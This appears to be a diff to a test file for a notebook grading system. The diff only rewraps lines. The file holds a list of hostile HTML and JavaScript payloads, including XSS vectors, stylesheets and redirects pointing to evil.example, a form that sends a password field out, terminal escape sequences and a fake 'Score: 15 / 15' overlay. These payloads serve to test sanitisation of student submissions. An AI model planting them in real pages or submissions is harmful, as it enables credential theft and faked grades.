@@ -18,7 +18,8 @@ HOSTILE = [
     "<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/b.png) }</style>",
     "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
     "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<form action=https://evil.example><input name=password><button formaction='javascript:alert(1)'>go</button></form>",
+    "<form action=https://evil.example><input name=password>"
+    "<button formaction='javascript:alert(1)'>go</button></form>",
     "<object data='data:text/html,<script>alert(1)</script>'></object><embed src='javascript:alert(1)'>",
     "<div style='position:fixed;inset:0;background:url(https://evil.example/c.png)'>Score: 15 / 15</div>",
     "<video poster=https://evil.example/p.png><source src=https://evil.example/v onerror=alert(1)></video>",
@@ -71,7 +72,8 @@ def html_in_code_and_printed(work: Work) -> None:
 def html_in_errors(work: Work) -> None:
     work.add(f"raise ValueError({ALL!r})")
     work.add(
-        f"raise type({HOSTILE[0]!r}, (Exception,), {{}})('\\x1b[31m<img src=x onerror=alert(1)>\\x1b]8;;javascript:alert(1)\\x07')"
+        f"raise type({HOSTILE[0]!r}, (Exception,), {{}})"
+        "('\\x1b[31m<img src=x onerror=alert(1)>\\x1b]8;;javascript:alert(1)\\x07')"
     )
 
 
@@ -84,7 +86,8 @@ def html_in_every_mime_type(work: Work) -> None:
     ]  # fmt: skip
     work.add(
         f"from IPython.display import display\ntext = {ALL!r}\nfor kind in {types!r}:\n"
-        "    display({kind: text}, raw=True)\n    display({kind: {'a': text}}, raw=True, metadata={kind: {'width': text, 'isolated': True}})"
+        "    display({kind: text}, raw=True)\n"
+        "    display({kind: {'a': text}}, raw=True, metadata={kind: {'width': text, 'isolated': True}})"
     )
 
 
@@ -94,7 +97,8 @@ def scripts_and_widgets(work: Work) -> None:
         "from IPython.display import display, Javascript, IFrame, SVG, Markdown, Latex, Video\n"
         "display(Javascript('alert(1)', lib=['https://evil.example/x.js']), IFrame('https://evil.example', 9, 9),\n"
         '        SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>\'),\n'
-        "        Markdown('<script>alert(1)</script>[x](javascript:alert(1))'), Latex('$\\\\href{javascript:alert(1)}{x}$'),\n"
+        "        Markdown('<script>alert(1)</script>[x](javascript:alert(1))'),\n"
+        "        Latex('$\\\\href{javascript:alert(1)}{x}$'),\n"
         "        Video('https://evil.example/v.mp4'))\n%%javascript"
     )
     work.add("%%html\n<script>alert(1)</script><img src=x onerror=alert(1)>")
@@ -132,7 +136,7 @@ def outputs_handed_in(work: Work) -> None:
 
 
 def student(number: int, folder: str, recordable: bool = False) -> None:
-    """A right submission from someone of an odd name: refused as no student id, or graded and harmless in every page."""
+    """A right submission from someone of an odd name: refused as no student id, or harmless in every page."""
 
     def make(work: Work) -> None:
         """Nothing but the name is odd."""
